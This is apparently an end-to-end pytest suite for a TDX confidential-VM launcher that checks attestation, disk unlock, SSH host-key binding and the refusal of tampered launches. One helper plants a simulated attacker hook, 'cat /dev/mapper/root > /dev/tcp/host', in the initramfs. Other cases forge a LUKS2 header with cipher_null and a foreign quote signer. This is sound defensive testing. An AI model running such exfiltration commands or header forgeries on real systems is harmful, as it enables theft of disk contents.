"""End to end on the real libvirtd: the smoke image launched emulated (TCG), attested,
unlocked, logged in to over SSH with the attested host key, destroyed — and launches
that must be refused with nothing unlocked, two at a time (fixture ``refused``)."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import re
import secrets
import shutil
import subprocess
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import libvirt
import pytest
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

from tdxvm.attest import TrustAnchor
from tdxvm.emulate import EmulatedPlatform
from tdxvm.launch.console import serial_log_tail
from tdxvm.launch.errors import LaunchError
from tdxvm.launch.lifecycle import destroy, status
from tdxvm.launch.manifest import load_manifest
from tdxvm.launch.records import VmRecords
from tdxvm.launch.spec import VmSpec
from tdxvm.provision import attestation, bringup, handshake, ssh
from tdxvm.provision.trust import EmulatedTrust, for_backend
from tdxvm.secretstore import SecretStore
from tdxvm.sshkey import controller_key

from ..poolclean import image_volumes, remove_unused
from . import hostdisks

pytestmark = pytest.mark.vm
URI = "qemu:///system"


@pytest.fixture(scope="module")
def trust(tmp_path_factory):
    return for_backend("emulated", emulated_dir=tmp_path_factory.mktemp("emulated"))


@pytest.fixture
def vm_name(conn):
    name = f"e2e-{secrets.token_hex(3)}"
    yield name
    with contextlib.suppress(LaunchError):  # already destroyed by the test
        destroy(conn, name)


def _spec(name: str, manifest_path: Path, **policy) -> VmSpec:
    return VmSpec(
        name=name,
        uri=URI,
        image=manifest_path,
        backend="emulated",
        vcpus=1,
        memory=1024,
        scratch=256,
        policy=policy or None,
    )


def _launch(conn, spec, trust, store, events=None):
    """bring_up, tried a second time only if the guest's kernel crashed (seen under QEMU 7.2's
    TCG, never with TDX): anything else fails the test the first time."""
    for attempt in (1, 2):
        try:
            return bringup.bring_up(
                spec,
                load_manifest(spec.image),
                conn,
                trust=trust,
                secrets=store,
                progress=(events.append if events is not None else bringup._quiet),
            )
        except bringup.BringUpError as exc:
            if attempt == 2 or "Kernel panic" not in exc.serial_tail:
                raise
            print(f"the emulated guest's kernel crashed under TCG; launching {spec.name} once more:\n{exc.serial_tail}")
            destroy(conn, spec.name)
            if events is not None:
                events.clear()
    raise AssertionError("unreachable")


class _HostSealsFirst(list):
    """Progress events; when the quote phase starts (the initramfs' unlock step is up), the
    host attests the TD itself, with a genuine quote of the same kernel and initramfs, and
    seals the passphrase of a disk of its own to the attested key, before the controller."""

    def __init__(self, conn, name: str, trust, store) -> None:
        super().__init__()
        self.conn, self.name, self.trust, self.records = conn, name, trust, VmRecords.beside(store)
        self.refusals: list[str] = []

    def append(self, event) -> None:
        super().append(event)
        if event.phase == "quote" and event.status == "start" and not self.refusals:
            record, _ = attestation.trusted_vm(self.conn, self.name, self.records, trust=self.trust)
            agent = record.address(record.agent_port, "guest agent")
            hosts = attestation.attest(self.conn, self.name, agent, self.trust, record.policy, require_keys=("x25519",))
            with hosts, pytest.raises(handshake.GuestError) as refused:
                hosts.release("disk", b"the host's own passphrase", sender=X25519PrivateKey.generate())
            self.refusals.append(str(refused.value))

    def clear(self) -> None:
        super().clear()
        self.refusals.clear()


def test_launch_attest_unlock_ssh_reattest_destroy(conn, trust, smoke_build, vm_name):
    store = SecretStore(directory=smoke_build.secrets)
    events = _HostSealsFirst(conn, vm_name, trust, store)
    result = _launch(conn, _spec(vm_name, smoke_build.folder / "manifest.json"), trust, store, events)
    assert [e.phase for e in events if e.status == "done"] == list(bringup.PHASES)
    # RTMR0 (TD HOB, firmware variables, QEMU's ACPI tables and SMBIOS) predicted for this machine and pinned
    assert result.rtmr0["value"] is not None and result.rtmr0["events"][0]["what"] == "TD HOB for 1024 MiB (TdxTable)"
    # the host's passphrase was refused by the unlock step, which then took the controller's
    assert len(events.refusals) == 1 and "not sealed by the controller's release key" in events.refusals[0]
    assert "refused secret 'disk'" in serial_log_tail(conn, vm_name, lines=2000)
    assert result.verdict["verdict"] == "accept" and result.verdict["tcb_status"] == "UpToDate"
    assert set(result.timings) == set(bringup.PHASES)
    # the booted system runs from the verified root (dm-verity on dm-crypt, read-only) under a
    # tmpfs overlay, and SSH accepts only the attested key
    client = ssh.connect(result.ssh, host_key=base64.b64decode(result.ssh_host_key), client_key=controller_key(store))
    with client:
        assert ssh.run(client, "findmnt -no FSTYPE /").strip() == "overlay"
        lower = ssh.run(client, "findmnt -no SOURCE,OPTIONS /run/tdxvm/root-ro").split()
        assert lower[0] == "/dev/mapper/root" and "ro" in lower[1].split(",")
        verity = ssh.run(client, "dmsetup table root").split()
        v = smoke_build.manifest["verity"]
        assert (
            verity[2] == "verity"
            and verity[11] == v["root_hash"]
            and verity[13:] == ["2", "panic_on_corruption", "try_verify_in_tasklet"]
        )
        assert ssh.run(client, "dmsetup table root-crypt").split()[2:4] == ["crypt", "aes-xts-plain64"]
        assert "Read-only file system" in ssh.run(client, "touch /run/tdxvm/root-ro/x 2>&1 || true")
        # the scratch disk: LUKS2 with integrity (authenticated aes-xts + HMAC) under a key drawn in the TD,
        # formatted beside the agent (ready does not wait for it); what writes there waits, as this does
        ssh.run(client, "systemctl start tdxvm-scratch.service", timeout=600)
        assert ssh.run(client, "findmnt -no SOURCE /var/lib/tdxvm").strip() == "/dev/mapper/tdxvm-scratch"
        scratch = ssh.run(client, "dmsetup table --showkeys tdxvm-scratch").split()
        assert (
            scratch[2:4] == ["crypt", "capi:authenc(hmac(sha256),xts(aes))-random"] and "integrity:48:aead" in scratch
        )
        assert ssh.run(client, "dmsetup table tdxvm-scratch_dif").split()[2] == "integrity"
        scratch_key = bytes.fromhex(scratch[4])
        ssh.run(client, "head -c 1048576 /dev/urandom > /var/lib/tdxvm/written && sync")
        host_pub = ssh.run(client, "cat /etc/ssh/ssh_host_ed25519_key.pub").split()[1]
        assert host_pub == result.ssh_host_key  # made inside the guest, bound by the quote
    # the scratch key is nowhere on the host: not in the domain XML, the pool, libvirt's files or the controller's
    xml = conn.lookupByName(vm_name).XMLDesc(0)
    assert "scratch.img" in xml and scratch[4] not in xml
    forms = (scratch_key, scratch_key.hex().encode(), base64.b64encode(scratch_key))
    for root in (
        Path("/var/lib/tdxvm/pool"),
        Path("/var/log/libvirt"),
        Path("/run/libvirt"),
        Path("/etc/libvirt"),
        smoke_build.secrets,
    ):
        for path in (p for p in root.rglob("*") if p.is_file() and not p.is_symlink()):
            with open(path, "rb") as f:
                prev = b""
                while chunk := f.read(8 << 20):
                    assert not any(form in prev + chunk for form in forms), f"the scratch key is in {path}"
                    prev = chunk[-256:]
    # a man in the middle presenting another key is refused
    wrong = bytearray(base64.b64decode(result.ssh_host_key))
    wrong[-1] ^= 1
    with pytest.raises(ssh.HostKeyMismatch):
        ssh.connect(result.ssh, host_key=bytes(wrong), client_key=controller_key(store))
    # re-attestation with a fresh nonce, recorded in the domain's metadata
    with attestation.reattest(conn, vm_name, records=VmRecords.beside(store), trust=trust) as again:
        assert again.nonce != b"" and again.verdict.accepted
    [vm] = status(conn, vm_name, records=VmRecords.beside(store))
    assert vm.record == "ok" and vm.attestation["verdict"] == "accept"
    report = destroy(conn, vm_name, records=VmRecords.beside(store))
    assert report.was_running and VmRecords.beside(store).get(vm.uuid) is None
    with pytest.raises(libvirt.libvirtError):
        conn.lookupByName(vm_name)


@dataclass
class Refusal:
    """What one launch that must be refused ended with."""

    name: str
    error: BaseException | None
    events: list
    tail: str  # the serial console's last 400 lines
    active: bool


def _initramfs_modified(build, work: Path) -> Path:
    """A copy of the build whose initramfs has one more file appended, as an attacker's hook
    would be; the manifest's artifact hash is fixed up, its measurements are not."""
    folder = work / "tampered"
    shutil.copytree(build.folder, folder)
    extra = work / "extra"
    (extra / "scripts").mkdir(parents=True)
    (extra / "scripts/evil").write_text("#!/bin/sh\ncat /dev/mapper/root > /dev/tcp/host\n")
    cpio = subprocess.run(
        "find . | cpio -o -H newc --quiet | gzip -n", shell=True, cwd=extra, capture_output=True, check=True
    ).stdout
    with open(folder / "initrd.img", "ab") as f:
        f.write(cpio)
    manifest = json.loads((folder / "manifest.json").read_text())
    data = (folder / "initrd.img").read_bytes()
    manifest["artifacts"]["initrd.img"] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder / "manifest.json"


def _forged_trust(trust, work: Path) -> EmulatedTrust:
    """The host's own quote service: another root signs."""
    forger = EmulatedPlatform()
    forger.save(work / "forger")
    forged = EmulatedTrust(forger, work / "forger", trust.collateral, trust.trust_anchor)
    assert TrustAnchor.from_der(forger.root_ca_der) != trust.trust_anchor
    return forged


class _HostAddsAVcpu(list):
    """Progress events; once tdxvm has defined the domain and before it starts it, the host
    gives it one more vCPU in the persistent definition (the TD's ACPI tables then describe
    another processor)."""

    def __init__(self, conn, name: str) -> None:
        super().__init__()
        self.conn, self.name = conn, name

    def append(self, event) -> None:
        super().append(event)
        if event.phase == "define" and event.status == "done":
            xml = self.conn.lookupByName(self.name).XMLDesc(libvirt.VIR_DOMAIN_XML_INACTIVE)
            changed = re.sub(r"<vcpu([^>]*)>(\d+)</vcpu>", lambda m: f"<vcpu{m[1]}>{int(m[2]) + 1}</vcpu>", xml)
            assert changed != xml
            self.conn.defineXML(changed)


def _tampered(build, folder: Path, disk) -> Path:
    """A copy of the build with ``disk(path)`` applied to its disk image and the manifest's
    artifact hash fixed up (the host serves that disk; kernel, initramfs and command line
    are the genuine ones, so the TD attests and receives the disk key)."""
    folder.mkdir()
    for name in ("vmlinuz", "initrd.img", "manifest.json"):
        shutil.copyfile(build.folder / name, folder / name)
    disk(folder / "disk.img")
    manifest = json.loads((folder / "manifest.json").read_text())
    digest = hashlib.sha256()
    with open(folder / "disk.img", "rb") as f:
        while chunk := f.read(8 << 20):
            digest.update(chunk)
    manifest["artifacts"]["disk.img"] = {"sha256": digest.hexdigest(), "size": (folder / "disk.img").stat().st_size}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder / "manifest.json"


def _flip_a_byte(build):
    def disk(path: Path) -> None:
        shutil.copyfile(build.folder / "disk.img", path)
        with open(path, "r+b") as f:  # in the payload's first block (the ext4 superblock's)
            f.seek(16 << 20 | 1080)
            byte = f.read(1)[0]
            f.seek(16 << 20 | 1080)
            f.write(bytes([byte ^ 1]))

    return disk


def _host_built(build, work: Path, *, forged: bool):
    def disk(path: Path) -> None:
        payload = hostdisks.host_payload(work, build.manifest["verity"]["data_bytes"])
        uuid = build.manifest["luks"]["uuid"]
        if forged:
            key = hostdisks.forge_cipher_null(payload, path, uuid=uuid)
            assert hostdisks.opens_with_any_passphrase(path, key)  # what a header-trusting initramfs would map
            dump = subprocess.run(
                ["cryptsetup", "luksDump", str(path)], capture_output=True, text=True, check=True
            ).stdout
            assert "cipher_null-ecb" in dump and uuid in dump
        else:
            hostdisks.host_built_disk(payload, path, uuid=uuid)
        payload.unlink()

    return disk


DISK_ATTACKS = ("flipped-byte", "host-built-rootfs", "forged-cipher-null-header")
PARALLEL = 2  # refused launches at once: one vCPU each, on this project's 2-core machines


@pytest.fixture(scope="module")
def refused(conn, trust, smoke_build, tmp_path_factory):
    """Every launch that must be refused, launched two at a time (each boots only to the
    unlock step, or to the root's first block for the disk attacks; the one the host gives
    a second vCPU alone), at the first test
    that asks; each test then checks its own. Each VM is removed once its case is recorded,
    with the disk or initramfs its attack changed."""
    store = SecretStore(directory=smoke_build.secrets)
    genuine = smoke_build.folder / "manifest.json"
    genuine_volumes = set(image_volumes(smoke_build.manifest))

    keys = ("wrong-mrtd", "initramfs-modified", "machine-changed", "another-signer", *DISK_ATTACKS)
    works = {key: tmp_path_factory.mktemp(key) for key in keys}

    def case(key: str) -> Refusal:
        name = f"e2e-{key[:12]}-{secrets.token_hex(3)}"
        work = works[key]
        events: list = []
        kind, spec, signer = key, _spec(name, genuine), trust
        if kind == "wrong-mrtd":
            spec = _spec(name, genuine, mrtd="ab" * 48)
        elif kind == "initramfs-modified":
            spec = _spec(name, _initramfs_modified(smoke_build, work))
        elif kind == "machine-changed":
            events = _HostAddsAVcpu(conn, name)
        elif kind == "another-signer":
            signer = _forged_trust(trust, work)
        else:
            disk = {
                "flipped-byte": _flip_a_byte(smoke_build),
                "host-built-rootfs": _host_built(smoke_build, work, forged=False),
                "forged-cipher-null-header": _host_built(smoke_build, work, forged=True),
            }[kind]
            spec = _spec(name, _tampered(smoke_build, work / "tampered", disk))
        error: BaseException | None = None
        try:
            _launch(conn, spec, signer, store, events)
        except Exception as exc:  # noqa: BLE001 - each test checks its own case's error
            error = exc
        try:
            tail, active = serial_log_tail(conn, name, lines=400), bool(conn.lookupByName(name).isActive())
        except (LaunchError, libvirt.libvirtError):
            tail, active = "", False
        with contextlib.suppress(LaunchError):
            destroy(conn, name)
        if spec.image != genuine:  # what it changed (a 1 GiB disk, an initramfs), here and in the pool, goes now
            remove_unused(set(image_volumes(json.loads(spec.image.read_text()))) - genuine_volumes)
        shutil.rmtree(work, ignore_errors=True)
        return Refusal(name, error, events, tail, active)

    with ThreadPoolExecutor(max_workers=PARALLEL, thread_name_prefix="e2e-refused") as pool:
        together = [key for key in keys if key != "machine-changed"]
        results = dict(zip(together, pool.map(case, together), strict=True))
    # alone: the host's extra vCPU makes it two, which beside another guest starved it
    # under TCG on 2 cores (an RCU stall, no agent within the boot timeout)
    results["machine-changed"] = case("machine-changed")
    return results


def _refused_at_attestation(r: Refusal) -> handshake.AttestationRefused:
    """The case's refusal, after checking its TD booted to the unlock step, waited, got nothing, and was stopped."""
    if not isinstance(r.error, handshake.AttestationRefused):
        raise AssertionError(f"{r.name} was not refused at attestation: {r.error!r}") from r.error
    assert "tdxvm-unlock: listening" in r.tail  # it booted to the unlock step and waited
    assert "received secret" not in r.tail and "set up successfully" not in r.tail
    assert not r.active  # stopped
    return r.error


def test_policy_with_wrong_mrtd_is_refused(refused):
    error = _refused_at_attestation(refused["wrong-mrtd"])
    assert [r.code for r in error.reasons] == ["measurement-mismatch"]
    assert "quote field MR_TD is" in error.reasons[0].message


def test_initramfs_modified_after_the_build_is_refused(refused):
    """The host swaps the initramfs (one more file appended, as an attacker's hook would
    be); the manifest's artifact hash is fixed up, its measurements are not: the quote's
    RTMR2 (what the emulated TD measured) no longer matches."""
    error = _refused_at_attestation(refused["initramfs-modified"])
    assert [(r.code, r.message.split(" is ")[0]) for r in error.reasons] == [
        ("measurement-mismatch", "quote field RTMR2")
    ]


def test_a_machine_the_host_changed_after_definition_is_refused(refused):
    """RTMR0 is pinned from the XML the controller wrote; the emulated TD's RTMR0 comes
    from the QEMU libvirt actually runs. The host's extra vCPU changes the ACPI tables,
    so the first quote no longer matches: refused before anything is released. (Memory
    changes the TD HOB, a device the tables; tests/launch/test_rtmr0pin.py shows each.)"""
    case = refused["machine-changed"]
    error = _refused_at_attestation(case)
    assert "RTMR0 pinned" in [e.detail for e in case.events if e.phase == "define" and e.status == "done"][0]
    assert [(r.code, r.message.split(" is ")[0]) for r in error.reasons] == [
        ("measurement-mismatch", "quote field RTMR0")
    ]


def test_quote_from_another_signer_is_refused(refused):
    """The host runs its own quote service (another root): a forged quote."""
    error = _refused_at_attestation(refused["another-signer"])
    assert {r.code for r in error.reasons} & {"untrusted-root", "pck-chain"}, error.reasons


@pytest.mark.parametrize("attack", DISK_ATTACKS)
def test_a_disk_that_is_not_the_built_one_is_refused_in_the_td(refused, smoke_build, attack):
    """The host serves another disk under the genuine kernel, initramfs and command line:
    a byte of the payload flipped; a root filesystem of its own under its own key; or its
    plaintext root behind a LUKS2 header forged with cipher_null (any passphrase opens it).
    The TD attests, receives the disk key, maps the payload with fixed parameters and the
    released key (never the header), and the first block fails verity against the
    measured root hash: it powers off before any system exists, with a message on the
    console; nothing of the host's root ever runs."""
    case = refused[attack]
    if not isinstance(case.error, bringup.BringUpError):
        raise AssertionError(f"{case.name} did not fail to come up: {case.error!r}") from case.error
    assert case.error.phase == "ready" and "the VM stopped" in str(case.error)
    assert [e.phase for e in case.events if e.status == "done"] == ["define", "boot", "quote", "verify", "unlock"]
    root_hash = smoke_build.manifest["verity"]["root_hash"]
    assert (
        "tdxvm-rootdisk: refusing the root filesystem: the disk is not the root filesystem the measured command "
        f"line names (its first block does not verify against root hash {root_hash}"
    ) in case.tail
    assert "tdxvm: the root filesystem was not opened; powering off" in case.tail
    assert hostdisks.MOTD.decode().strip() not in case.tail and "Welcome to" not in case.tail  # no system booted
    assert not case.active
